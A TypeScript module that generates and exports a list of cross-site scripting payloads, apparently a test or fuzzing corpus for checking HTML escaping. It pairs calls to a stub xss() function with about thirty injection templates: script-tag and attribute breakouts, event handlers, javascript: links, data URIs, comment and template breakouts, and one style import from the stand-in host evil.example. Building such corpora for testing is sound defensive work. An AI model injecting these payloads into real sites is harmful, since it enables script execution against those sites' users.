const CALLS = [
  'xss()',
  'xss`1`',
  '(0,xss)()',
  "top['xss']()",
  'self.xss?.()',
  'xss(document.domain)',
  'xss.call()',
  'setTimeout(xss)',
]

const FORMS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'-${call}-'`,
  (call) => `";${call};//`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `" onmouseover=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<details open ontoggle=${call}>x`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input onfocus=${call} autofocus>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<style>@import'//evil.example';</style>${call}`,
  (call) => `]]><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `<!--<script>${call}</script>`,
  (call) => `\u2028${call}\u2029//`,
  (call) => `\${${call}}{{${call}}}`,
  (call) => `<math><mtext><script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}`,
  (call) => `<object data="data:text/html,<script>${call}</script>">`,
]

/** Texts that run as a script wherever escaping fails. Each is at most 90 characters long. */
export const XSS_PAYLOADS: readonly string[] = FORMS.flatMap((form) => CALLS.map(form))
